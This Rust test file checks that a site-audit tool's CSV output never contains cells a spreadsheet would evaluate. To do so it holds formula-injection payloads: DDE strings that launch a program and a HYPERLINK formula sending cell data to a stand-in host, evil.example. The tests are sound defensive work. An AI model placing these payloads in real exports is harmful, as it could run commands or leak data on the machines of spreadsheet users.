//! No text of a site becomes a formula in a spreadsheet: what the command writes as CSV is read back cell by cell.

use std::process::Command;

use crate::tree;
use crate::trial::Trial;

/// Texts that spreadsheets would work out, some behind signs that they leave out of account.
const FORMULAS: &[&str] = &[
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"more\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+44 1632 960 000",
    "-2+3+cmd|' /C calc'!A0",
    "\u{ff1d}1+1",
    "\u{ff20}SUM(A1)",
    "\"=1+1",
    "a\",=1+1,\"",
    "a\n=1+1",
    ";=1+1",
];

/// The cells of a table in CSV (RFC 4180), by a reader of its own.
fn cells(text: &str) -> Vec<String> {
    let (mut all, mut cell, mut quoted) = (Vec::new(), String::new(), false);
    let mut letters = text.chars().peekable();
    while let Some(letter) = letters.next() {
        match letter {
            '"' if quoted && letters.peek() == Some(&'"') => cell.extend(letters.next()),
            '"' => quoted = !quoted,
            ',' | '\n' if !quoted => all.push(std::mem::take(&mut cell)),
            '\r' if !quoted => {}
            _ => cell.push(letter),
        }
    }
    all.push(cell);
    all
}

/// Whether a spreadsheet would work a cell out: it begins with a sign and is no number.
fn runs(cell: &str) -> bool {
    let seen = cell.trim_start();
    seen.starts_with(['=', '+', '-', '@', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}'])
        && seen.parse::<f64>().is_err()
}

/// What a command prints for a site.
fn printed(trial: &Trial, arguments: &[&str]) -> String {
    let output = Command::new(env!("CARGO_BIN_EXE_candour"))
        .args(["audit", "--format", "csv", "--as-of", "2026-11-22", "--site"])
        .arg(&trial.folder)
        .args(arguments)
        .output()
        .unwrap();
    String::from_utf8(output.stdout).unwrap()
}

#[test]
fn no_cell_that_a_command_writes_is_a_formula() {
    let mut faults = Vec::new();
    for (number, formula) in FORMULAS.iter().enumerate() {
        let trial = Trial::new(&format!("formula-{number}"));
        // Single quotes hold every sign but a single quote; a line end in them is a space, so it is written double.
        let yaml = serde_json::to_string(formula).unwrap();
        trial.put(
            "content/strategies/promises.md",
            format!(
                "---\ntitle: {yaml}\nstatus: approved\nissue: '1'\nissued: 2025-04-01\nnext_review: 2028-04-01\n---\n\n\
                 ## {yaml}\n\n1.1 We will answer {formula} within 10 working days of every letter.\n\n\
                 {formula} and we will publish the minutes of all meetings within 14 days.\n"
            ),
        );
        trial.put(
            "data/commitments.yaml",
            format!(
                "- id: one\n  text: {yaml}\n  made_in: strategies/promises\n  from: 2025-04-01\n  owner: {yaml}\n  \
                 check: {{manual: true, reason: {yaml}}}\n"
            ),
        );
        for arguments in [&[][..], &["--unclaimed"], &["--since", "2026-01-01"]] {
            let text = printed(&trial, arguments);
            let found = cells(&text);
            if found.len() < 12 {
                faults.push(format!("{formula:?} {arguments:?}: no table: {text}"));
            }
            let bad = found.into_iter().filter(|cell| runs(cell));
            faults.extend(bad.map(|cell| format!("{formula:?} {arguments:?}: {cell}")));
        }
    }
    tree::none("cells that a spreadsheet works out", &faults);
}

#[test]
fn every_writer_of_csv_goes_through_the_one_that_guards_cells() {
    let mut faults = Vec::new();
    for (path, code) in tree::code() {
        let writer = ["src/formats/", "src/commands"].iter().any(|folder| path.starts_with(folder));
        let writes = writer && (code.contains("fn csv") || code.contains(".csv\""));
        if writes && !code.contains("csv_row(") {
            faults.push(format!("{path} writes CSV without `text::csv_row`"));
        }
    }
    tree::none("writers of CSV", &faults);
}

#[test]
fn a_formula_would_be_seen() {
    assert_eq!(cells("a,\"b\"\"c\nd\",e\r\nf"), ["a", "b\"c\nd", "e", "f"]);
    assert!(runs("=1") && runs(" +44 1") && runs("\u{ff1d}1") && !runs("-4.2") && !runs("'=1") && !runs("a=1"));
}
